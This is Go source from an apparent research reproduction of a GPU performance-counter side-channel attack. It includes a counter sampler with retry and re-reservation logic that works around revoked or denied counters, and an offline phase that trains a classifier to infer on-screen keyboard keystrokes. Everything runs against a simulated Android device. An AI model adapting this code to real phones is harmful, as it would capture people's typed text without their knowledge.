	// Retry bounds recovery from transient device errors. The zero value
	// disables retrying (any error is fatal).
	Retry RetryPolicy
	// Stats reports the recovery work of the most recent collection; it
	// is reset at the start of every Collect/CollectContext.
	Stats CollectStats
	// Obs, when non-nil, records a sampler.collect span per polling loop
	// plus read-error events, and counts polls in the metrics registry.
	// Retry and gap events are emitted only when faults actually fire.
	Obs *obs.Tracer
}

// NewSampler reserves the selected counters on the probe and returns a
// sampler. A reservation failure (e.g. an RBAC mitigation denying
// PERFCOUNTER_GET) is reported as a *SampleError wrapping the driver
// sentinel.
func NewSampler(f Probe, interval sim.Time) (*Sampler, error) {
	return NewSamplerRetry(f, interval, RetryPolicy{})
}

// NewSamplerRetry is NewSampler with a retry policy: the initial
// reservation itself is retried with sim-time backoff (a fault plane can
// make even PERFCOUNTER_GET fail transiently), and the policy governs
// every subsequent collection. Errors are classified under the KGSL
// taxonomy; NewSamplerTaxonomy is the channel-aware variant.
func NewSamplerRetry(f Probe, interval sim.Time, policy RetryPolicy) (*Sampler, error) {
	return NewSamplerTaxonomy(f, interval, policy, fault.Taxonomy{})
}

// NewSamplerTaxonomy is NewSamplerRetry with an explicit channel error
// taxonomy (zero value = KGSL): reservation retries, per-tick retry
// classification and the re-reservation trigger all follow the given
// channel's sentinels.
func NewSamplerTaxonomy(f Probe, interval sim.Time, policy RetryPolicy, tax fault.Taxonomy) (*Sampler, error) {
	if interval <= 0 {
		interval = DefaultInterval
	}
	at := sim.Time(0)
	var err error
	for attempt := 0; ; attempt++ {
		err = f.ReserveSelected(at)
		if err == nil {
			break
		}
		if !policy.Enabled() || !RetryableIn(err, tax) || attempt+1 >= policy.MaxAttempts {
			return nil, &SampleError{At: at, Op: "reserve", Attempts: attempt + 1, Err: err}
		}
		at += policy.BackoffAt(attempt)
	}
	return &Sampler{File: f, Interval: interval, Retry: policy, Errors: tax}, nil
}

// taxonomy resolves the sampler's error taxonomy, defaulting to KGSL.
func (s *Sampler) taxonomy() fault.Taxonomy {
	if s.Errors.Valid() {
		return s.Errors
	}
	return fault.KGSL()
}

// retryable classifies a driver error under the sampler's taxonomy.
func (s *Sampler) retryable(err error) bool { return RetryableIn(err, s.Errors) }

// Collect polls the counters over [start, end] and returns the trace.
// Device errors abort the collection unless the Retry policy recovers
// them — on a mitigated device the attack fails here.
func (s *Sampler) Collect(start, end sim.Time) (*trace.Trace, error) {
	return s.CollectContext(context.Background(), start, end)
}

// CollectContext is Collect with cancellation honored at sampler-tick
// granularity: the polling loop checks ctx before every counter read and
// aborts with the context's error, so a canceled request never completes
// a sweep it no longer needs.
func (s *Sampler) CollectContext(ctx context.Context, start, end sim.Time) (*trace.Trace, error) {
	sp := s.Obs.Start(start, evSamplerCollect, obs.Int("interval_us", int(s.Interval)))
	s.Stats = CollectStats{}
	tr := &trace.Trace{Interval: s.Interval}
	tf, hasTF := s.File.(TickFaults)
	var prev [adreno.NumSelected]uint64
	havePrev := false
	badTicks := 0
	t := start
	for tick := 0; t <= end; t, tick = t+s.Interval, tick+1 {
		if err := ctx.Err(); err != nil {
			if s.Obs != nil {
				s.Obs.Emit(t, evSamplerReadError, obs.Str("err", err.Error()))
				sp.AddField(obs.Int("samples", tr.Len()))
				sp.End(t)
			}
			return nil, fmt.Errorf("attack: sampling canceled at %v: %w", t, err)
		}
		s.Stats.Ticks++
		readAt := t
		if hasTF {
			delay, drop := tf.TickFault(tick, t)
			if drop {
				s.Stats.DroppedTicks++
				s.emitGap(t, "tick_dropped")
				continue
			}
			if delay > 0 {
				readAt = t + delay
				if readAt >= t+s.Interval {
					readAt = t + s.Interval - 1
				}
			}
		}
		vals, at, serr := s.readTick(readAt, t+s.Interval, prev, havePrev)
		if serr != nil {
			if !s.Retry.Enabled() || !s.retryable(serr.Err) {
				if s.Obs != nil {
					s.Obs.Emit(at, evSamplerReadError, obs.Str("err", serr.Err.Error()))
					sp.AddField(obs.Int("samples", tr.Len()))
					sp.End(at)
				}
				return nil, serr
			}
			s.Stats.DroppedTicks++
			badTicks++
			s.emitGap(at, "retry_exhausted")
			if s.Retry.MaxBadTicks > 0 && badTicks > s.Retry.MaxBadTicks {
				if s.Obs != nil {
					s.Obs.Emit(at, evSamplerReadError, obs.Str("err", serr.Err.Error()))
					sp.AddField(obs.Int("samples", tr.Len()))
					sp.End(at)
				}
				return nil, fmt.Errorf("attack: %d consecutive failed ticks: %w", badTicks, serr)
			}
			continue
		}
		badTicks = 0
		prev = vals
		havePrev = true
		var sm trace.Sample
		sm.At = at
		copy(sm.Values[:], vals[:])
		tr.Append(sm)
	}
	if s.Obs != nil {
		s.Obs.Metrics().Add(mSamplerReads, int64(tr.Len()))
		if s.Stats.Retries > 0 {
			s.Obs.Metrics().Add(mSamplerRetries, int64(s.Stats.Retries))
		}
		if s.Stats.ReReservations > 0 {
			s.Obs.Metrics().Add(mSamplerRereservations, int64(s.Stats.ReReservations))
		}
		if s.Stats.DroppedTicks > 0 {
			s.Obs.Metrics().Add(mSamplerDroppedTicks, int64(s.Stats.DroppedTicks))
		}
		sp.AddField(obs.Int("samples", tr.Len()))
		sp.End(t - s.Interval)
	}
	return tr, nil
}

// readTick performs one poll at readAt with bounded retry inside the
// tick budget [readAt, deadline). On success the returned time is when
// the read actually landed (after any backoff). On failure it returns a
// *SampleError carrying the last driver error; the caller classifies it
// as a droppable gap (retryable, policy enabled) or fatal.
func (s *Sampler) readTick(readAt, deadline sim.Time, prev [adreno.NumSelected]uint64, havePrev bool) ([adreno.NumSelected]uint64, sim.Time, *SampleError) {
	var zero [adreno.NumSelected]uint64
	tryAt := readAt
	var lastErr error
	for attempt := 0; ; attempt++ {
		if attempt > 0 {
			// Transient failure: back off within the tick, give the driver
			// sim-time to clear, and retry.
			wait := s.Retry.BackoffAt(attempt - 1)
			next := tryAt + wait
			if attempt >= s.Retry.MaxAttempts || next >= deadline {
				return zero, tryAt, &SampleError{At: tryAt, Op: "read", Attempts: attempt, Err: lastErr}
			}
			tryAt = next
			s.Stats.Retries++
			if s.Obs != nil {
				s.Obs.Emit(tryAt, evSamplerRetry,
					obs.Int("attempt", attempt), obs.Str("err", lastErr.Error()))
			}
			if errors.Is(lastErr, s.taxonomy().NotReserved) {
				// The counter group was revoked mid-session (another process
				// issued PERFCOUNTER_PUT/GET); re-reserve before re-reading.
				if rerr := s.File.ReserveSelected(tryAt); rerr != nil {
					if !s.retryable(rerr) {
						return zero, tryAt, &SampleError{At: tryAt, Op: "reserve", Attempts: attempt, Err: rerr}
					}
					lastErr = rerr
					continue
				}
				s.Stats.ReReservations++
				if s.Obs != nil {
					s.Obs.Emit(tryAt, evSamplerRereserve, obs.Int("attempt", attempt))
				}
			}
		}
		vals, err := s.File.ReadSelected(tryAt)
		if err != nil {
			if !s.Retry.Enabled() || !s.retryable(err) {
				return zero, tryAt, &SampleError{At: tryAt, Op: "read", Attempts: attempt + 1, Err: err}
			}
			lastErr = err
			continue
		}
		if s.Retry.WrapCheck && havePrev && regressed(vals, prev) {
			// Cumulative counters never decrease; a regression is a
			// truncated register read. Re-read rather than poison the delta.
			s.Stats.WrappedRetries++
			lastErr = ErrWrappedRead
			continue
		}
		return vals, tryAt, nil
	}
}

// regressed reports whether any counter value moved backwards between
// consecutive reads.
func regressed(cur, prev [adreno.NumSelected]uint64) bool {
	for i := range cur {
		if cur[i] < prev[i] {
			return true
		}
	}
	return false
}

func (s *Sampler) emitGap(t sim.Time, reason string) {
	if s.Obs == nil {
		return
	}
	s.Obs.Emit(t, evSamplerGap, obs.Str("reason", reason))
}

// VecOf converts a raw counter array into a feature vector.
func VecOf(vals [adreno.NumSelected]uint64) trace.Vec {
	var v trace.Vec
	for i, x := range vals {
		v[i] = float64(x)
	}
	return v
}
