package attack

import (
	"fmt"

	"gpuleak/internal/adreno"
	"gpuleak/internal/kgsl"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

// DefaultInterval is the paper's default counter polling period (§7: the
// selected GPU PCs are read every 8 ms).
const DefaultInterval = 8 * sim.Millisecond

// Sampler periodically block-reads the 11 selected counters through the
// KGSL device file, exactly as the paper's monitoring service does (§4,
// Figure 10). The polling interval should be at most half the screen
// refresh interval so every frame is covered by at least one reading.
type Sampler struct {
	File     *kgsl.File
	Interval sim.Time
}

// NewSampler reserves the selected counters on the device file and
// returns a sampler. A reservation failure (e.g. an RBAC mitigation
// denying PERFCOUNTER_GET) is reported to the caller.
func NewSampler(f *kgsl.File, interval sim.Time) (*Sampler, error) {
	if interval <= 0 {
		interval = DefaultInterval
	}
	if err := f.ReserveSelected(0); err != nil {
		return nil, fmt.Errorf("attack: reserving counters: %w", err)
	}
	return &Sampler{File: f, Interval: interval}, nil
}

// Collect polls the counters over [start, end] and returns the trace.
// Individual read errors abort collection — on a mitigated device the
// attack fails here.
func (s *Sampler) Collect(start, end sim.Time) (*trace.Trace, error) {
	tr := &trace.Trace{Interval: s.Interval}
	for t := start; t <= end; t += s.Interval {
		vals, err := s.File.ReadSelected(t)
		if err != nil {
			return nil, fmt.Errorf("attack: reading counters at %v: %w", t, err)
		}
		var sm trace.Sample
		sm.At = t
		copy(sm.Values[:], vals[:])
		tr.Append(sm)
	}
	return tr, nil
}

// VecOf converts a raw counter array into a feature vector.
func VecOf(vals [adreno.NumSelected]uint64) trace.Vec {
	var v trace.Vec
	for i, x := range vals {
		v[i] = float64(x)
	}
	return v
}
