package attack

import (
	"fmt"
	"math"
	"sort"

	"gpuleak/internal/input"
	"gpuleak/internal/keyboard"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
	"gpuleak/internal/victim"
)

// CollectOptions tunes the offline phase.
type CollectOptions struct {
	// Repeats is how many times each key is emulated (paper's bot presses
	// every key repeatedly to confirm deltas are stable).
	Repeats int
	// Interval is the counter polling period during collection.
	Interval sim.Time
}

func (o CollectOptions) withDefaults(vsync sim.Time) CollectOptions {
	if o.Repeats == 0 {
		o.Repeats = 3
	}
	if o.Interval == 0 {
		// §7.4: read at no more than half the refresh interval, so every
		// frame is covered by at least one reading. On 120 Hz panels the
		// default 8 ms would merge adjacent frames.
		o.Interval = DefaultInterval
		if half := vsync / 2; half < o.Interval {
			o.Interval = half
		}
	}
	return o
}

// ModelKeyFor derives the classifier identity from a victim configuration.
func ModelKeyFor(cfg victim.Config) ModelKey {
	res := cfg.Resolution
	if res.W == 0 {
		res = cfg.Device.DefaultResolution()
	}
	hz := cfg.RefreshHz
	if hz == 0 {
		hz = cfg.Device.DefaultRefreshHz()
	}
	kbName := "gboard"
	if cfg.Keyboard != nil {
		kbName = cfg.Keyboard.Name
	}
	return ModelKey{
		Device:     cfg.Device.Name,
		Resolution: res.String(),
		Keyboard:   kbName,
		RefreshHz:  hz,
	}
}

// Collect runs the offline phase (§3.2, §6): a bot emulates every typable
// key on a controlled device of the given configuration, the resulting
// counter trace is labeled with the known press times, and a
// nearest-centroid classifier with noise signatures is constructed.
func Collect(cfg victim.Config, opts CollectOptions) (*Model, error) {
	// Controlled collection environment: the attacker owns this device, so
	// notifications are silenced; cursor blink stays on because its delta
	// signature must be learned as noise.
	cfg.NotifPerMinute = -1
	cfg.CPULoad = 0
	cfg.GPULoad = 0

	sess := victim.New(cfg)
	opts = opts.withDefaults(sess.Comp.VsyncPeriod())
	alphabet := sess.Comp.KB.TypableRunes()
	if len(alphabet) == 0 {
		return nil, fmt.Errorf("attack: keyboard %q has no typable keys", sess.Comp.KB.Name)
	}

	// Bot script: each key pressed Repeats times with wide, regular gaps so
	// popup, echo and dismissal deltas separate cleanly.
	var script input.Script
	t := 600 * sim.Millisecond
	for rep := 0; rep < opts.Repeats; rep++ {
		for _, r := range alphabet {
			script.Events = append(script.Events, input.Event{
				Kind: input.EvPress, R: r, At: t, Dur: 90 * sim.Millisecond,
			})
			t += 420 * sim.Millisecond
		}
	}
	sess.Run(script)

	f, err := sess.Open()
	if err != nil {
		return nil, fmt.Errorf("attack: offline phase: %w", err)
	}
	sampler, err := NewSampler(f, opts.Interval)
	if err != nil {
		return nil, err
	}
	tr, err := sampler.Collect(0, sess.End)
	if err != nil {
		return nil, err
	}
	deltas := tr.Deltas()

	m := &Model{Key: ModelKeyFor(cfg), Keys: make(map[string]trace.Vec)}

	// The attacker controls the collection device and the bot script, so
	// every expected UI event has a known frame time: popups at the press
	// vsync, echo updates at the release vsync, popup dismissals one vsync
	// later, page-switch redraws before cross-page presses, cursor blinks
	// on a strict 0.5 s grid, and the launch frame at the start. Each event
	// gets a labeling window two polling intervals long; the deltas inside
	// a window (a frame may split across two reads) sum to the event's
	// exact signature.
	type labelKind int
	const (
		lblKey labelKind = iota
		lblEcho
		lblHide
		lblBlink
		lblPageSwitch
		lblLaunch
	)
	type window struct {
		from, to sim.Time
		kind     labelKind
		r        rune
	}
	// Labeling windows are two polling intervals long but never span a
	// whole vsync period — the next frame (popup duplication, dismissal)
	// must stay out of the window.
	vsync := sess.Comp.VsyncPeriod()
	wlen := 2 * opts.Interval
	if wlen > vsync {
		wlen = vsync
	}
	wlen += sim.Microsecond
	var wins []window
	wins = append(wins, window{from: sess.LaunchAt, to: sess.LaunchAt + wlen, kind: lblLaunch})
	curPage := keyboard.PageLower
	for _, ev := range script.Events {
		if ev.Kind != input.EvPress {
			continue
		}
		page, ok := sess.Comp.KB.PageFor(ev.R)
		if !ok {
			continue
		}
		if page != curPage {
			at := sess.Comp.AlignVsync(ev.At - 60*sim.Millisecond)
			wins = append(wins, window{from: at, to: at + wlen, kind: lblPageSwitch})
			curPage = page
		}
		press := sess.Comp.AlignVsync(ev.At)
		echo := sess.Comp.AlignVsync(ev.At + ev.Dur)
		wins = append(wins, window{from: press, to: press + wlen, kind: lblKey, r: ev.R})
		wins = append(wins, window{from: echo, to: echo + wlen, kind: lblEcho})
		wins = append(wins, window{from: echo + vsync, to: echo + vsync + wlen, kind: lblHide})
	}
	if !cfg.DisableCursorBlink {
		for t := sess.LaunchAt + 500*sim.Millisecond; t < sess.End; t += 500 * sim.Millisecond {
			at := sess.Comp.AlignVsync(t)
			wins = append(wins, window{from: at, to: at + wlen, kind: lblBlink})
		}
	}
	sort.Slice(wins, func(i, j int) bool { return wins[i].from < wins[j].from })

	// Assign each delta to the earliest-starting window containing it; a
	// delta belonging to no window (e.g. a popup-animation duplication) is
	// discarded — it replays a signature that is already labeled.
	sums := make([]trace.Vec, len(wins))
	got := make([]bool, len(wins))
	wi := 0
	for _, d := range deltas {
		for wi < len(wins) && wins[wi].to < d.At {
			wi++
		}
		for j := wi; j < len(wins) && wins[j].from < d.At; j++ {
			if d.At > wins[j].from && d.At <= wins[j].to {
				sums[j] = sums[j].Add(d.V)
				got[j] = true
				break
			}
		}
	}

	// Key centroids: keep the smallest-magnitude repeat (a repeat whose
	// window accidentally caught extra work sums high).
	w := trace.Ones()
	samples := make(map[rune]trace.Vec)
	for j, win := range wins {
		if win.kind != lblKey || !got[j] {
			continue
		}
		if prev, ok := samples[win.r]; !ok || sums[j].Norm(w) < prev.Norm(w) {
			samples[win.r] = sums[j]
		}
	}
	for r, v := range samples {
		m.Keys[string(r)] = v
	}
	if len(m.Keys) < len(alphabet)*9/10 {
		return nil, fmt.Errorf("attack: offline phase labeled only %d/%d keys", len(m.Keys), len(alphabet))
	}

	// Normalization weights: bring every counter dimension to comparable
	// scale so pixel-count counters do not drown primitive counters.
	m.Weights = weightsFor(m.Keys)

	// Classification thresholds (§5.1), in noise-sigma units (weights are
	// 1/sigma per dimension): Cth caps how perturbed an accepted key press
	// may be; NoiseTol is the tighter bound for matching the deterministic
	// non-key redraw signatures.
	m.Cth = 12
	m.NoiseTol = 4

	// Noise centroids from the labeled non-key windows.
	// Duplication replays never land in a labeling window, so every
	// labeled non-key window is a genuine noise signature.
	seen := map[string]bool{}
	addNoise := func(class NoiseClass, v trace.Vec) {
		sig := fmt.Sprintf("%v", v)
		if seen[sig] {
			return
		}
		seen[sig] = true
		m.Noise = append(m.Noise, NoiseCentroid{Class: class, V: v})
	}
	for j, win := range wins {
		if !got[j] {
			continue
		}
		if win.kind == lblLaunch {
			// The launch frame doubles as the device-recognition
			// fingerprint (§3.2).
			m.Launch = sums[j]
		}
		switch win.kind {
		case lblEcho:
			addNoise(NoiseEcho, sums[j])
		case lblHide:
			addNoise(NoisePopupHide, sums[j])
		case lblBlink:
			addNoise(NoiseBlink, sums[j])
		case lblPageSwitch:
			addNoise(NoisePageSwitch, sums[j])
		case lblLaunch:
			addNoise(NoiseLaunch, sums[j])
		}
	}
	sort.Slice(m.Noise, func(i, j int) bool {
		if m.Noise[i].Class != m.Noise[j].Class {
			return m.Noise[i].Class < m.Noise[j].Class
		}
		return m.Noise[i].V.Norm(m.Weights) < m.Noise[j].V.Norm(m.Weights)
	})
	return m, nil
}

func (m *Model) meanKeyNorm() float64 {
	var sum float64
	for _, c := range m.Keys {
		sum += c.Norm(m.Weights)
	}
	if len(m.Keys) == 0 {
		return 1
	}
	return sum / float64(len(m.Keys))
}

// weightsFor computes noise-aware per-dimension weights. Each counter's
// observation noise has two parts: a quantization floor (counters are
// integers; partial-frame reads truncate) and a component proportional to
// magnitude (render jitter scales with the amount drawn). Weighting by
// 1/sigma makes one unit of weighted distance one noise standard
// deviation on every dimension, so small counters (tens of primitives)
// no longer drown in their own rounding while large pixel counters keep
// their full discriminative power.
func weightsFor(keys map[string]trace.Vec) trace.Vec {
	const (
		quantFloor = 2.0   // counter quantization noise, in counts
		jitterRef  = 0.004 // reference relative rendering jitter
	)
	var scale trace.Vec
	for _, c := range keys {
		for i, x := range c {
			if a := abs(x); a > scale[i] {
				scale[i] = a
			}
		}
	}
	var w trace.Vec
	for i, s := range scale {
		sigma := math.Sqrt(quantFloor*quantFloor + jitterRef*s*jitterRef*s)
		w[i] = 1 / sigma
	}
	return w
}

func abs(x float64) float64 {
	if x < 0 {
		return -x
	}
	return x
}
