package attack

import (
	"context"
	"fmt"
	"math"
	"sort"

	"gpuleak/internal/android"
	"gpuleak/internal/channel"
	"gpuleak/internal/input"

	// Register the default channel: Collect with an empty Channel must
	// work wherever the attack package does, or every pre-channel-plane
	// call site would break at run time.
	"gpuleak/internal/keyboard"
	_ "gpuleak/internal/kgslchan"
	"gpuleak/internal/obs"
	"gpuleak/internal/parallel"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
	"gpuleak/internal/victim"
)

// CollectOptions tunes the offline phase.
type CollectOptions struct {
	// Repeats is how many times each key is emulated (paper's bot presses
	// every key repeatedly to confirm deltas are stable).
	Repeats int
	// Interval is the counter polling period during collection.
	Interval sim.Time
	// Workers caps how many collection sessions run concurrently: 1 is
	// fully serial, 0 (the default) uses one worker per CPU. Every task
	// derives its RNG seed from (Config.Seed, task index) alone, so the
	// resulting model is byte-identical at any worker count.
	Workers int
	// Obs, when non-nil, records one offline.task span per collection
	// task on a pre-created child track (offline/NNN) plus device ioctl
	// metrics, without perturbing the model: children are created in
	// index order before fan-out, so the exported stream is identical at
	// any worker count.
	Obs *obs.Tracer
	// Channel names the side channel to collect through (registry name;
	// empty = the default KGSL channel). The resulting model is tagged
	// with the channel and only classifies deltas from it.
	Channel string
}

func (o CollectOptions) withDefaults(vsync sim.Time) CollectOptions {
	if o.Repeats == 0 {
		o.Repeats = 3
	}
	if o.Interval == 0 {
		// §7.4: read at no more than half the refresh interval, so every
		// frame is covered by at least one reading. On 120 Hz panels the
		// default 8 ms would merge adjacent frames.
		o.Interval = DefaultInterval
		if half := vsync / 2; half < o.Interval {
			o.Interval = half
		}
	}
	return o
}

// ModelKeyFor derives the classifier identity from a victim
// configuration, on the default (KGSL) channel.
func ModelKeyFor(cfg victim.Config) ModelKey {
	return ModelKeyForChannel(cfg, "")
}

// ModelKeyForChannel derives the classifier identity from a victim
// configuration and a channel name; the default channel canonicalizes to
// an empty tag so legacy keys are unchanged.
func ModelKeyForChannel(cfg victim.Config, ch string) ModelKey {
	res := cfg.Resolution
	if res.W == 0 {
		res = cfg.Device.DefaultResolution()
	}
	hz := cfg.RefreshHz
	if hz == 0 {
		hz = cfg.Device.DefaultRefreshHz()
	}
	kbName := "gboard"
	if cfg.Keyboard != nil {
		kbName = cfg.Keyboard.Name
	}
	return ModelKey{
		Device:     cfg.Device.Name,
		Resolution: res.String(),
		Keyboard:   kbName,
		RefreshHz:  hz,
		Channel:    channel.Canonical(ch),
	}
}

// labelKind classifies a labeling window of the offline phase. The
// attacker controls the collection device and the bot script, so every
// expected UI event has a known frame time: popups at the press vsync,
// echo updates at the release vsync, popup dismissals one vsync later,
// page-switch redraws before cross-page presses, cursor blinks on a
// strict 0.5 s grid, and the launch frame at the start.
type labelKind int

const (
	lblKey labelKind = iota
	lblEcho
	lblHide
	lblBlink
	lblPageSwitch
	lblLaunch
)

// window is one labeling window: the deltas inside it (a frame may split
// across two reads) sum to the event's exact signature.
type window struct {
	from, to sim.Time
	kind     labelKind
	r        rune
}

// windowLen is the labeling-window length: two polling intervals, but
// never a whole vsync period — the next frame (popup duplication,
// dismissal) must stay out of the window.
func windowLen(interval, vsync sim.Time) sim.Time {
	wlen := 2 * interval
	if wlen > vsync {
		wlen = vsync
	}
	return wlen + sim.Microsecond
}

// labelWindows derives the labeling windows of a materialized bot session
// from its known script, in start-time order.
func labelWindows(sess *victim.Session, script input.Script, wlen sim.Time) []window {
	vsync := sess.Comp.VsyncPeriod()
	var wins []window
	wins = append(wins, window{from: sess.LaunchAt, to: sess.LaunchAt + wlen, kind: lblLaunch})
	curPage := keyboard.PageLower
	for _, ev := range script.Events {
		if ev.Kind != input.EvPress {
			continue
		}
		page, ok := sess.Comp.KB.PageFor(ev.R)
		if !ok {
			continue
		}
		if page != curPage {
			at := sess.Comp.AlignVsync(ev.At - 60*sim.Millisecond)
			wins = append(wins, window{from: at, to: at + wlen, kind: lblPageSwitch})
			curPage = page
		}
		press := sess.Comp.AlignVsync(ev.At)
		echo := sess.Comp.AlignVsync(ev.At + ev.Dur)
		wins = append(wins, window{from: press, to: press + wlen, kind: lblKey, r: ev.R})
		wins = append(wins, window{from: echo, to: echo + wlen, kind: lblEcho})
		wins = append(wins, window{from: echo + vsync, to: echo + vsync + wlen, kind: lblHide})
	}
	if !sess.Cfg.DisableCursorBlink {
		for t := sess.LaunchAt + 500*sim.Millisecond; t < sess.End; t += 500 * sim.Millisecond {
			at := sess.Comp.AlignVsync(t)
			wins = append(wins, window{from: at, to: at + wlen, kind: lblBlink})
		}
	}
	sort.Slice(wins, func(i, j int) bool { return wins[i].from < wins[j].from })
	return wins
}

// sampleWindows polls the session's counters and sums each delta into the
// earliest-starting window containing it; a delta belonging to no window
// (e.g. a popup-animation duplication) is discarded — it replays a
// signature that is already labeled. Sampling stops shortly after the
// last window since later deltas could not be labeled anyway.
func sampleWindows(ch channel.Channel, sess *victim.Session, interval sim.Time, wins []window, obsTr *obs.Tracer) ([]trace.Vec, []bool, error) {
	f, err := ch.Open(sess)
	if err != nil {
		return nil, nil, fmt.Errorf("attack: offline phase: %w", err)
	}
	sampler, err := NewSamplerTaxonomy(f, interval, RetryPolicy{}, ch.Taxonomy())
	if err != nil {
		return nil, nil, err
	}
	sampler.Obs = obsTr
	end := sess.End
	if len(wins) > 0 {
		last := wins[0].to
		for _, w := range wins {
			if w.to > last {
				last = w.to
			}
		}
		if trunc := last + 2*interval; trunc < end {
			end = trunc
		}
	}
	tr, err := sampler.Collect(0, end)
	if err != nil {
		return nil, nil, err
	}
	deltas := tr.Deltas()

	sums := make([]trace.Vec, len(wins))
	got := make([]bool, len(wins))
	wi := 0
	for _, d := range deltas {
		for wi < len(wins) && wins[wi].to < d.At {
			wi++
		}
		for j := wi; j < len(wins) && wins[j].from < d.At; j++ {
			if d.At > wins[j].from && d.At <= wins[j].to {
				sums[j] = sums[j].Add(d.V)
				got[j] = true
				break
			}
		}
	}
	return sums, got, nil
}

// taskOut is the result of one collection task. Tasks communicate only
// through their index-addressed slot, which is what keeps the merged
// model independent of scheduling.
type taskOut struct {
	key   trace.Vec // lblKey window sum (key tasks)
	keyOK bool

	launch trace.Vec       // lblLaunch window sum (sweep task)
	noise  []NoiseCentroid // labeled non-key signatures, in window time order
}

// collectSweep is task 0 of the offline phase: a single pass over the
// whole alphabet plus one trailing lower-page press. It exists to learn
// everything that is NOT a key centroid — the launch fingerprint and the
// noise signatures: echo redraws at every field length the online phase
// can meet, popup dismissals of every key, page-switch redraws in both
// directions (the trailing press switches symbol→lower) and cursor
// blinks. Its key windows are labeled so press deltas cannot pollute
// adjacent noise windows, then discarded.
func collectSweep(ch channel.Channel, opts CollectOptions, sess *victim.Session, alphabet []rune, wlen sim.Time, obsTr *obs.Tracer) (taskOut, error) {
	var script input.Script
	t := 600 * sim.Millisecond
	press := func(r rune) {
		script.Events = append(script.Events, input.Event{
			Kind: input.EvPress, R: r, At: t, Dur: 90 * sim.Millisecond,
		})
		t += 420 * sim.Millisecond
	}
	for _, r := range alphabet {
		press(r)
	}
	press(alphabet[0])
	sess.Run(script)

	sp := obsTr.Start(0, evOfflineTask,
		obs.Str("kind", "sweep"), obs.Int("keys", len(alphabet)))
	sess.Device.SetMetrics(obsTr.Metrics())
	wins := labelWindows(sess, script, wlen)
	sums, got, err := sampleWindows(ch, sess, opts.Interval, wins, obsTr)
	if err != nil {
		return taskOut{}, err
	}
	sp.End(sess.End)
	var out taskOut
	for j, win := range wins {
		if !got[j] {
			continue
		}
		switch win.kind {
		case lblLaunch:
			// The launch frame doubles as the device-recognition
			// fingerprint (§3.2).
			out.launch = sums[j]
			out.noise = append(out.noise, NoiseCentroid{Class: NoiseLaunch, V: sums[j]})
		case lblEcho:
			out.noise = append(out.noise, NoiseCentroid{Class: NoiseEcho, V: sums[j]})
		case lblHide:
			out.noise = append(out.noise, NoiseCentroid{Class: NoisePopupHide, V: sums[j]})
		case lblBlink:
			out.noise = append(out.noise, NoiseCentroid{Class: NoiseBlink, V: sums[j]})
		case lblPageSwitch:
			out.noise = append(out.noise, NoiseCentroid{Class: NoisePageSwitch, V: sums[j]})
		}
	}
	return out, nil
}

// collectKey is one per-(key, repeat) task: a minimal session pressing a
// single key with nothing else on screen, yielding one candidate centroid
// for that key. Cursor blink is disabled — the sweep task learns blink
// signatures — so the key window is as clean as the hardware allows.
func collectKey(ch channel.Channel, cfg victim.Config, opts CollectOptions, r rune, repeat int, wlen sim.Time, obsTr *obs.Tracer) (taskOut, error) {
	cfg.DisableCursorBlink = true
	sess := victim.New(cfg)
	script := input.Script{Events: []input.Event{{
		Kind: input.EvPress, R: r, At: 600 * sim.Millisecond, Dur: 90 * sim.Millisecond,
	}}}
	sess.Run(script)

	sp := obsTr.Start(0, evOfflineTask,
		obs.Str("kind", "key"), obs.Str("rune", string(r)), obs.Int("repeat", repeat))
	sess.Device.SetMetrics(obsTr.Metrics())
	wins := labelWindows(sess, script, wlen)
	sums, got, err := sampleWindows(ch, sess, opts.Interval, wins, obsTr)
	if err != nil {
		return taskOut{}, err
	}
	sp.End(sess.End)
	var out taskOut
	for j, win := range wins {
		if win.kind == lblKey && got[j] {
			out.key = sums[j]
			out.keyOK = true
		}
	}
	return out, nil
}

// Collect runs the offline phase (§3.2, §6): a bot emulates every typable
// key on a controlled device of the given configuration, the resulting
// counter trace is labeled with the known press times, and a
// nearest-centroid classifier with noise signatures is constructed.
//
// The work is decomposed into 1 + len(alphabet)*Repeats independent
// tasks — one noise/launch sweep plus one mini-session per (key, repeat) —
// executed on opts.Workers goroutines. Task i seeds its RNG with
// sim.TaskSeed(cfg.Seed, i) and all tasks of one call share a render
// cache, so the model depends only on (cfg, opts minus Workers), never on
// the worker count or scheduling.
func Collect(cfg victim.Config, opts CollectOptions) (*Model, error) {
	return CollectContext(context.Background(), cfg, opts)
}

// CollectContext is Collect with cancellation honored at per-(key,repeat)
// granularity: once ctx is done no further collection tasks start, the
// ones already running finish, and the call returns the context's error
// instead of a partial model. A run that completes is byte-identical to
// Collect — cancellation can only abort, never skew.
func CollectContext(ctx context.Context, cfg victim.Config, opts CollectOptions) (*Model, error) {
	ch, err := channel.Get(opts.Channel)
	if err != nil {
		return nil, err
	}
	// Controlled collection environment: the attacker owns this device, so
	// notifications are silenced; cursor blink stays on because its delta
	// signature must be learned as noise.
	cfg.NotifPerMinute = -1
	cfg.CPULoad = 0
	cfg.GPULoad = 0
	if cfg.RenderCache == nil {
		// All tasks share the identical configuration, so each distinct
		// frame state is rasterized once per Collect, not once per task.
		cfg.RenderCache = android.NewStatsCache()
	}

	baseSeed := cfg.Seed
	taskCfg := func(i int) victim.Config {
		c := cfg
		c.Seed = sim.TaskSeed(baseSeed, i)
		return c
	}

	// The sweep session is created eagerly: it also supplies the vsync
	// period and alphabet that shape the task list.
	sweepSess := victim.New(taskCfg(0))
	opts = opts.withDefaults(sweepSess.Comp.VsyncPeriod())
	wlen := windowLen(opts.Interval, sweepSess.Comp.VsyncPeriod())
	alphabet := sweepSess.Comp.KB.TypableRunes()
	if len(alphabet) == 0 {
		return nil, fmt.Errorf("attack: keyboard %q has no typable keys", sweepSess.Comp.KB.Name)
	}

	nKeys := len(alphabet)
	nTasks := 1 + nKeys*opts.Repeats

	// Per-task telemetry tracks are created here, in index order, by the
	// coordinating goroutine — never inside the racing workers — so the
	// merged event stream is independent of scheduling.
	var children []*obs.Tracer
	if opts.Obs != nil {
		children = make([]*obs.Tracer, nTasks)
		for i := range children {
			children[i] = opts.Obs.Child(fmt.Sprintf("offline/%03d", i))
		}
	}
	child := func(i int) *obs.Tracer {
		if children == nil {
			return nil
		}
		return children[i]
	}

	outs, err := parallel.MapCtx(ctx, opts.Workers, nTasks, func(i int) (taskOut, error) {
		if i == 0 {
			return collectSweep(ch, opts, sweepSess, alphabet, wlen, child(0))
		}
